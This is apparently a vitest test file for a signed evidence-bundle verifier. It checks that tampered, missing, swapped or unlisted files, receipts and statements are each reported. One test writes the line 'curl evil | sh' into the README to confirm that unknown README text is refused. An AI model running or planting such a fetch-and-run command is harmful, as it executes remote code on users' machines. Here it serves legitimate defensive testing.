import { beforeAll, expect, it } from 'vitest';
import { BUNDLE_PATH } from '../../../src/trust/bundle/bundle-layout';
import type { BundleFinding } from '../../../src/trust/bundle/bundle-report';
import { README_DIGESTS, README_TEXT } from '../../../src/trust/bundle/readme';
import { verifyBundle } from '../../../src/trust/bundle/verify-bundle';
import { signStatement } from '../../../src/trust/statement';
import { type MadeBundle, makeBundle } from '../../support/bundle-maker';
import { reindex } from '../../support/bundle-mutations';
import { sha256Text } from '../../support/test-device';

let made: MadeBundle;
beforeAll(async () => {
  made = await makeBundle();
});

const textIn = (path: string): string => Buffer.from(made.files.get(path) ?? []).toString();

/** Findings at fault after a change; the index is made anew unless it is told not to. */
async function faultsAfter(
  change: (files: Map<string, Uint8Array>) => void,
  index: 'new' | 'old' = 'new',
): Promise<readonly BundleFinding[]> {
  const files = new Map(made.files);
  change(files);
  const report = await verifyBundle(index === 'new' ? reindex(files) : files, made);
  return report.findings.filter(({ outcome }) => outcome === 'fails');
}

const named = (faults: readonly BundleFinding[]): string[] =>
  faults.map(({ check, file, detail }) => `${check} ${file ?? '-'} ${detail}`);

const write = (files: Map<string, Uint8Array>, path: string, text: string): void => {
  files.set(path, new Uint8Array(Buffer.from(text)));
};

it('[BD1] a fresh bundle holds in every check, its location self-reported', async () => {
  const { outcome, checks, bounds } = await verifyBundle(made.files, made);
  expect(outcome).toBe('holds');
  expect(checks.map((each) => `${each.check} ${each.outcome}`)).toEqual([
    'intact holds',
    'authentic holds',
    'receipted holds',
    'timeBounded holds',
    'location selfReported',
    'complete holds',
  ]);
  expect(bounds).toEqual({ after: '2026-03-03T00:00:00Z', before: '2026-03-03T00:00:00Z' });
});

it('[BD3] a file that is absent, altered or not listed is named', async () => {
  const path = BUNDLE_PATH.statement(0);
  expect(named(await faultsAfter((files) => files.delete(path), 'old'))).toContain(
    `complete ${path} missing`,
  );
  const extra = BUNDLE_PATH.evidence('0'.repeat(64));
  expect(named(await faultsAfter((files) => write(files, extra, 'x'), 'old'))).toContain(
    `intact ${extra} not-listed`,
  );
  const altered = await faultsAfter((files) => write(files, path, `${textIn(path)}x`), 'old');
  expect(named(altered)).toContain(`intact ${path} size-differs`);
});

it('[BD4] a manifest of an unknown suite is not checkable', async () => {
  const files = new Map(made.files);
  write(files, BUNDLE_PATH.manifest, textIn(BUNDLE_PATH.manifest).replace('"S1"', '"S2"'));
  const report = await verifyBundle(reindex(files), made);
  expect(report.outcome).toBe('notCheckable');
  expect(report.checks.map(({ outcome }) => outcome)).not.toContain('fails');
  expect(report.checks.find(({ check }) => check === 'authentic')?.detail).toBe('suite-unknown');
});

it('[BD5] without a pinned log key receipts and time are not checkable, the rest is', async () => {
  const report = await verifyBundle(made.files, { vkey: null });
  expect(report.outcome).toBe('holds');
  const outcomes = Object.fromEntries(report.checks.map(({ check, outcome }) => [check, outcome]));
  expect(outcomes).toMatchObject({
    intact: 'holds',
    receipted: 'notCheckable',
    timeBounded: 'notCheckable',
    complete: 'holds',
  });
});

it('[BD6] a log key other than the pinned one fails', async () => {
  const other = await makeBundle();
  const report = await verifyBundle(other.files, { vkey: made.vkey });
  expect(report.outcome).toBe('fails');
  const receipted = report.checks.find(({ check }) => check === 'receipted');
  expect(receipted).toMatchObject({ outcome: 'fails', detail: 'log-key-differs' });
});

it('[BD7] a score that the journals do not give fails, and its indicator is named', async () => {
  const first = made.manifest.scores[0];
  const told = JSON.stringify(first?.printed);
  const faults = await faultsAfter((files) => {
    const text = textIn(BUNDLE_PATH.manifest);
    const at = text.indexOf(`"printed":${told}`);
    write(
      files,
      BUNDLE_PATH.manifest,
      `${text.slice(0, at)}"printed":"1"${text.slice(at + 10 + told.length)}`,
    );
  });
  expect(named(faults)).toContain(`intact manifest.json score-differs:${first?.indicator}`);
});

it('[BD8] an altered line fails, and its file and seq are named', async () => {
  const path = BUNDLE_PATH.journal(made.journals.evaluator);
  const lines = textIn(path).split('\n');
  lines[5] = (lines[5] ?? '').replace('"v":1', '"v":1').replace(/"ms":(\d)/, '"ms":9$1');
  const faults = await faultsAfter((files) => write(files, path, lines.join('\n')));
  expect(named(faults)).toContain(`intact ${path} chain-broken:seq 5`);
});

it('[BD9] a bundle without the statement of the lead evaluator is not complete', async () => {
  const faults = await faultsAfter((files) => files.delete(BUNDLE_PATH.statement(0)));
  expect(named(faults)).toEqual([
    `complete ${BUNDLE_PATH.journal(made.journals.lead)} statement-file-missing`,
    'complete - lead-statement-missing',
  ]);
});

it('[BD10] altered evidence fails, absent evidence leaves the bundle incomplete', async () => {
  const path = BUNDLE_PATH.evidence(made.manifest.evidence[0]?.sha256 ?? '');
  const size = made.manifest.evidence[0]?.size ?? 0;
  const altered = await faultsAfter((files) => files.set(path, new Uint8Array(size)));
  expect(named(altered)).toEqual([`intact ${path} evidence-altered`]);
  const absent = await faultsAfter((files) => files.delete(path));
  expect(named(absent)).toEqual([`complete ${path} evidence-missing`]);
});

it('[BD11] swapped receipts fail, and the differing member is named', async () => {
  const [a, b] = [made.journals.lead, made.journals.evaluator].map(BUNDLE_PATH.headReceipt);
  const faults = await faultsAfter((files) => {
    for (const ending of ['.json', '.tlog-proof']) {
      files.set(`${a}${ending}`, made.files.get(`${b}${ending}`) ?? new Uint8Array());
      files.set(`${b}${ending}`, made.files.get(`${a}${ending}`) ?? new Uint8Array());
    }
  });
  expect(named(faults)).toEqual(
    expect.arrayContaining([
      `receipted ${a}.json leaf-differs:journal`,
      `receipted ${b}.json leaf-differs:journal`,
    ]),
  );
});

it('[BD12] revocation counts from its place in the log, and admission lifts it', async () => {
  const outcomes: Record<string, string> = {};
  for (const revocation of ['after-head', 'before-head', 'before-head-admitted'] as const) {
    const { files, vkey } = await makeBundle({ revocation });
    const report = await verifyBundle(files, { vkey });
    const time = report.checks.find(({ check }) => check === 'timeBounded');
    outcomes[revocation] = `${report.outcome} ${time?.detail}`;
  }
  expect(outcomes).toEqual({
    'after-head': 'holds 2 checked',
    'before-head': 'fails after-revocation',
    'before-head-admitted': 'holds 2 checked',
  });
});

it('[BD17] measured evidence counts as evidence that is held', async () => {
  const files = new Map<string, Uint8Array | { sha256: string; size: number }>(made.files);
  for (const [path, bytes] of made.files) {
    if (path.startsWith('evidence/')) {
      files.set(path, { sha256: sha256Text(bytes), size: bytes.length });
    }
  }
  expect((await verifyBundle(files, made)).outcome).toBe('holds');
  const path = BUNDLE_PATH.evidence(made.manifest.evidence[0]?.sha256 ?? '');
  files.set(path, { sha256: '0'.repeat(64), size: 1 });
  expect((await verifyBundle(files, made)).outcome).toBe('fails');
});

it('[BD20] the README is known by its digest, and another text is refused', async () => {
  expect(README_DIGESTS).toContain(sha256Text(README_TEXT));
  const faults = await faultsAfter((files) => write(files, BUNDLE_PATH.readme, 'curl evil | sh'));
  expect(named(faults)).toEqual(['intact README.txt readme-unknown']);
});

it('[BD23] a statement that does not count neither helps nor spoils the report', async () => {
  const spoilt = await makeBundle({
    afterwards: async ({ jws, second, said }) => {
      const asLead = await signStatement(second.signer, said);
      return { written: [jws, asLead, 'no JWS'], filed: [] };
    },
  });
  expect((await verifyBundle(spoilt.files, spoilt)).outcome).toBe('holds');
  const filed = await makeBundle({
    afterwards: async ({ second, said }) => {
      const asLead = await signStatement(second.signer, said);
      return { written: [asLead], filed: [asLead] };
    },
  });
  const { findings } = await verifyBundle(filed.files, filed);
  const faults = findings.filter(({ outcome }) => outcome === 'fails');
  expect(named(faults)).toEqual(['authentic statements/1.jws person-differs']);
});

it('[BD24] the package gives the role, not the credential', async () => {
  const other = await makeBundle({ credentialRole: 'leadEvaluator' });
  expect((await verifyBundle(other.files, other)).outcome).toBe('holds');
  const foreign = await makeBundle({ credentialRole: 'expert', openedAs: 'expert' });
  const { findings } = await verifyBundle(foreign.files, foreign);
  const faults = findings.filter(({ outcome }) => outcome === 'fails');
  const journal = BUNDLE_PATH.journal(foreign.journals.evaluator);
  expect(named(faults)).toContain(`authentic ${journal} not-of-the-team`);
});

it('[BD25] an extra line and a receipt or an admission that nothing needs are named', async () => {
  const proof = `${BUNDLE_PATH.packageReceipt}.tlog-proof`;
  const extra = textIn(proof).replace('\nindex', '\nextra Zm9v\nindex');
  expect(named(await faultsAfter((files) => write(files, proof, extra)))).toContain(
    `receipted ${proof} proof-malformed`,
  );
  const admission = BUNDLE_PATH.admission(made.journals.evaluator, 1);
  expect(named(await faultsAfter((files) => write(files, admission, 'junk')))).toEqual([
    `complete ${admission} unused`,
  ]);
});

it('[BD25] a statement twice or out of count, and a credential of an idle device, are named', async () => {
  const [first, second, far] = [0, 1, 7].map(BUNDLE_PATH.statement);
  const jws = textIn(first ?? '');
  const repeated = await faultsAfter((files) => write(files, second ?? '', jws));
  expect(named(repeated)).toEqual([`complete ${second} unused`]);
  const moved = await faultsAfter((files) => {
    files.delete(first ?? '');
    write(files, far ?? '', jws);
  });
  expect(named(moved)).toEqual([`complete ${far} path-unknown`]);
  const idle = await makeBundle({ idleDevice: true });
  const { findings } = await verifyBundle(idle.files, idle);
  const faults = findings.filter(({ outcome }) => outcome === 'fails');
  expect(faults.map(({ file, detail }) => `${file} ${detail}`)).toEqual([
    expect.stringMatching(/^credentials\/[\w-]{43}\.jws unused$/),
  ]);
});

it('[BD28] without a pinned key the report says that the keys are the bundle its own', async () => {
  const alone = await verifyBundle(made.files, { vkey: null });
  expect(alone).toMatchObject({ outcome: 'holds', keysFrom: 'bundle', logKey: made.vkey });
  const authentic = alone.checks.find(({ check }) => check === 'authentic');
  expect(authentic?.detail).toContain(`bundle's own bureau key ${alone.bureauKey}`);
  const pinned = await verifyBundle(made.files, made);
  expect(pinned.keysFrom).toBe('pinned');
  expect(pinned.checks.find(({ check }) => check === 'authentic')?.detail).not.toContain('own');
});
